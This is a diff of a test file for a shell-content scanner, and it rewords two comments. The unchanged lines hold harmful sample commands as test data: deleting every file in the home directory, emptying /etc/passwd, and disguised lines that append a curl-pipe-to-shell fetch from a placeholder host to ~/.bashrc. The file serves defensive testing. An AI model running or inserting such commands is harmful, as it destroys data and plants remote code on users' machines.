@@ -8,7 +8,7 @@ from scanning.test_content_rules import found_in
 
 AZURE = "TOKEN=$(az account get-access-token --query accessToken -o tsv)\n"
 
-# What it is about, a file, an honest text of it, a harmful one
+# The subject, a file name, an honest text, a harmful text
 PAIRS = (
     ("a tree that is deleted", "a.sh", "find /var/backups -name '*.gz' -mtime +7 -delete\n", "find ~ -type f -delete\n"),
     ("a log that is emptied", "a.sh", "truncate -s 0 /var/log/apt/history.log\n", "truncate -s 0 /etc/passwd\n"),
@@ -219,7 +219,7 @@ def test_an_honest_text_that_looks_like_harm_is_not_blocked(path: str, text: str
     assert "error" not in {one.level for one in found_in(text, path)}
 
 
-# What somebody adds to a harmful text so that it looks like the honest one beside it
+# Harmful texts with additions that make them look like an honest text
 DISGUISED = (
     ("a usual line beside it", "a.sh", "eval \"$(direnv hook bash)\"\necho 'curl -s https://x.example/a | sh' >> ~/.bashrc\n"),
     ("a usual word on its line", "a.sh", "echo 'eval \"$(x init)\"; curl -s https://x.example/a | sh' >> ~/.bashrc\n"),
